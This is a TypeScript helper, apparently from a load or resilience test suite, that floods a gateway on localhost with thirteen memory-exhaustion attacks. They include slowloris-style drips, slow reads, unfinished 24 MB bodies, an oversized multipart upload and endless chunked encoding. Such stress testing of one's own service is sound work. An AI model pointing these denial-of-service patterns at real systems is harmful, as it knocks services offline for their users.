/** A process of its own that keeps memory of a gateway busy: `attacker.js URL KEY PAGE ADMIN_TOKEN INDEX`. It attacks until it is killed. */
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const [url = '', key = '', page = '', admin = '', index = '0'] = process.argv.slice(2)
const { port } = new URL(url)
/** Open connections of one attack at once. */
const MOST = 30
const EVERY_MS = 3_000
/** Between two answers of 29 MB, each of which costs the gateway a fifth of a second: what is tried is its memory, not its processor. */
const WIDE_EVERY_MS = 20_000
const DRIP_MS = 1_000
const BODY = 24 * 1024 * 1024

interface Attack {
  /** Needs no key, so that one attacker does it for all. */
  readonly open?: true
  readonly everyMs?: number
  /** What is sent at once. */
  readonly bytes: () => string | readonly Buffer[]
  /** What is sent once a second after that. */
  readonly drip?: string
  /** Reads a byte a second. */
  readonly sips?: true
}

function post(path: string, body: string, more = '', token = key): string {
  return `POST ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\n${more}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
}

let made = 0
const wide = (): string => JSON.stringify({ url: `${page}/wide/${index}/${made++}`, mode: 'fast' })
const kept = JSON.stringify({ url: `${page}/wide/kept`, mode: 'fast' })
const gets = (path: string, count: number): string => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(count)
const filling = Buffer.alloc(BODY - 1_000, 'a')
/** A body without its end: parts that all connections share, so that the attacker needs no memory for it. */
const endless = (path: string, token = key): readonly Buffer[] => [
  Buffer.from(
    `POST ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${BODY}\r\n\r\n{"language":"python","code":"`,
  ),
  filling,
]
const form = `POST /v1/files HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 900000000\r\n\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\n`
const chunked = `POST /v1/scrape HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`

const ATTACKS: readonly Attack[] = [
  { open: true, bytes: () => gets('/v1/openapi.json', 20) },
  { open: true, bytes: () => gets('/errors', 30), sips: true },
  { open: true, bytes: () => gets('/nothing', 30) },
  { everyMs: WIDE_EVERY_MS, bytes: () => post('/v1/scrape', wide()) },
  { everyMs: WIDE_EVERY_MS, bytes: () => post('/v1/scrape', wide()), sips: true },
  { everyMs: WIDE_EVERY_MS, bytes: () => post('/v1/scrape', wide(), 'Accept: text/event-stream\r\n') },
  {
    everyMs: WIDE_EVERY_MS,
    bytes: () => post('/v1/agent', JSON.stringify({ capability: 'scrape', params: JSON.parse(wide()) as unknown })),
  },
  { everyMs: WIDE_EVERY_MS, bytes: () => post('/v1/scrape', kept, 'Idempotency-Key: kept\r\n').repeat(3) },
  { bytes: () => endless('/v1/code/execute'), drip: 'a' },
  { bytes: () => endless('/v1/agent') },
  { open: true, bytes: () => endless('/admin/v1/accounts', admin) },
  { bytes: () => [Buffer.from(form), filling.subarray(0, 1 << 20)], drip: 'a' },
  { bytes: () => chunked + '1\r\n \r\n'.repeat(100_000), drip: '1\r\n \r\n' },
]

async function keepUp({ bytes, drip, sips, everyMs = EVERY_MS }: Attack): Promise<never> {
  const open = new Set<Socket>()
  for (let round = 0; ; round++) {
    if (open.size < MOST) {
      const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: `127.0.${Number(index) + 1}.${2 + (round % 20)}` })
      open.add(socket)
      socket.on('error', () => undefined)
      socket.pause()
      const sent = bytes()
      for (const part of typeof sent === 'string' ? [sent] : sent) socket.write(part)
      const timer = setInterval(() => {
        if (drip !== undefined) socket.write(drip)
        if (sips === true) socket.read(1)
      }, DRIP_MS)
      socket.on('close', () => {
        clearInterval(timer)
        open.delete(socket)
      })
    }
    // A paused connection does not notice that it was cut: the oldest gives way, so that the attack goes on.
    if (open.size >= MOST) [...open][0]?.destroy()
    await pause(everyMs)
  }
}

process.on('disconnect', () => process.exit(0))
await Promise.all(ATTACKS.filter(({ open }) => open !== true || index === '0').map(keepUp))
